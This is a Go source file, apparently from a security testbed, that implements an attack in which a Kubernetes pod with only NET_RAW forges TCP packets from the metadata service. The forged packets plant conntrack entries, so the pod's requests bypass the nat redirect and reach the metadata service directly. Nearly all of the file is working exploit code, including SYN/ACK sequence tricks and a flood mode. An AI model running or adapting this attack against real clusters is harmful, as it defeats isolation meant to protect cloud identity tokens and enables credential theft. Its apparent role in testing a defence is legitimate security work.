// Package attack is what a pod with the capability NET_RAW, which containers have by
// default, can try in order to reach the metadata service past a redirect.
//
// It forges the first packet of a connection from the metadata service to the pod
// itself, with which the node's conntrack makes an entry. What the pod then sends to
// the metadata service from that port counts as an answer, and the nat table, which
// redirects, sees the first packets of connections alone.
package attack

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// FirstPacket is the packet that is forged first.
type FirstPacket string

const (
	// ACK is taken for the middle of a connection (nf_conntrack_tcp_loose). What the
	// pod sends then is in the state INVALID, which kube-proxy drops.
	ACK FirstPacket = "ACK"
	// SYN makes it a simultaneous open (RFC 9293, section 3.5), in no invalid state: a
	// second forged packet, the SYN/ACK, follows when the pod's SYN has passed. The
	// metadata service's own SYN/ACK is let through if its sequence number is after
	// the forged one, and so half of the attempts succeed; where invalid packets are
	// dropped, when it is sent again after a second.
	SYN FirstPacket = "SYN"
	// None forges nothing.
	None FirstPacket = "nothing"
)

// Config says what to try.
type Config struct {
	First    FirstPacket
	Metadata netip.AddrPort // of the metadata service
	Pod      netip.Addr     // of the pod that attacks
	Ports    []uint16       // that it attacks from, all at once
	// Host and HostPort are where the forged packets go to instead of to the pod: a
	// port of the node that leads to the first of Ports. The others follow one by one.
	Host     netip.Addr
	HostPort uint16
	// Flood is how many ports of Host, from HostPort on, are sent a forged packet each.
	// Nothing else is done then.
	Flood    uint16
	Patience time.Duration // for one attempt, from the pod's SYN to the last byte of the answer
	Path     string        // to ask for
}

// Result is what came of the attempt from one port.
type Result struct {
	Port   uint16
	Answer string // the body of an answer, whoever gave it
	Err    string // why there is no answer
}

// Env is the environment variable that holds the Config of a process that is to
// attack, see FromEnv.
const Env = "NMI_TESTBED_ATTACK"

// FromEnv attacks as Env says and prints the results as JSON. It reports whether Env
// asked for it.
func FromEnv() (asked bool, err error) {
	text := os.Getenv(Env)
	if text == "" {
		return false, nil
	}
	var cfg Config
	if err := json.Unmarshal([]byte(text), &cfg); err != nil {
		return true, err
	}
	if err := onlyNetRaw(); err != nil {
		return true, err
	}
	results, err := run(cfg)
	if err != nil {
		return true, err
	}
	return true, json.NewEncoder(os.Stdout).Encode(results)
}

// onlyNetRaw returns an error if this process can do more than a pod's.
func onlyNetRaw() error {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&header, &data[0]); err != nil {
		return err
	}
	if data[0].Effective != 1<<unix.CAP_NET_RAW || data[1].Effective != 0 || data[0].Permitted != data[0].Effective {
		return fmt.Errorf("capabilities are %x, not NET_RAW alone", data[0].Permitted)
	}
	return nil
}

func run(cfg Config) ([]Result, error) {
	w, err := openWire(cfg.Metadata.Addr())
	if err != nil {
		return nil, err
	}
	defer w.close()
	ctx, cancel := context.WithTimeout(context.Background(), cfg.Patience)
	defer cancel()

	for i := range cfg.Flood {
		to := netip.AddrPortFrom(cfg.Host, cfg.HostPort+i)
		if err := w.send(segment{from: cfg.Metadata, to: to, seq: forgedSeq, ack: 1, flags: flagACK, ttl: 64, md5: true}); err != nil {
			return nil, err
		}
	}
	if cfg.Flood > 0 {
		return nil, nil
	}
	forged := make(map[uint16]segment) // by the pod's port
	for i, port := range cfg.Ports {
		to := netip.AddrPortFrom(cfg.Pod, port)
		if cfg.Host.IsValid() {
			to = netip.AddrPortFrom(cfg.Host, cfg.HostPort+uint16(i)) //nolint:gosec // a handful
		}
		forged[port] = segment{from: cfg.Metadata, to: to, seq: forgedSeq, ttl: 64, md5: true}
	}
	for _, s := range forged {
		switch cfg.First {
		case ACK:
			s.flags, s.ack = flagACK, 1
		case SYN:
			s.flags = flagSYN
		case None:
			continue
		}
		if err := w.send(s); err != nil {
			return nil, err
		}
	}
	var running sync.WaitGroup
	defer running.Wait()
	defer cancel()
	if cfg.First == SYN {
		running.Go(func() {
			_ = w.sniffSYN(ctx, cfg.Metadata, func(port uint16, seq uint32) {
				s := forged[port]
				s.flags, s.ack = flagSYN|flagACK, seq+1
				s.ttl = 1 // conntrack sees it, and it goes no further
				_ = w.send(s)
			})
		})
	}

	results := make([]Result, len(cfg.Ports))
	var asking sync.WaitGroup
	for i, port := range cfg.Ports {
		asking.Go(func() {
			answer, err := ask(ctx, cfg, port)
			results[i] = Result{Port: port, Answer: answer}
			if err != nil {
				results[i].Err = err.Error()
			}
		})
	}
	asking.Wait()
	return results, nil
}

// forgedSeq is the sequence number of what is forged. One in two numbers is after it.
const forgedSeq = 1 << 30

// ask sends an ordinary request from the given port.
func ask(ctx context.Context, cfg Config, port uint16) (string, error) {
	dialer := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(cfg.Pod, port))}
	client := &http.Client{Transport: &http.Transport{DialContext: dialer.DialContext, DisableKeepAlives: true}}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+cfg.Metadata.String()+cfg.Path, nil)
	if err != nil {
		return "", err
	}
	req.Header.Set("Metadata", "true")
	resp, err := client.Do(req)
	if err != nil {
		var opErr *net.OpError
		if errors.As(err, &opErr) {
			return "", opErr
		}
		return "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return string(body), err
}
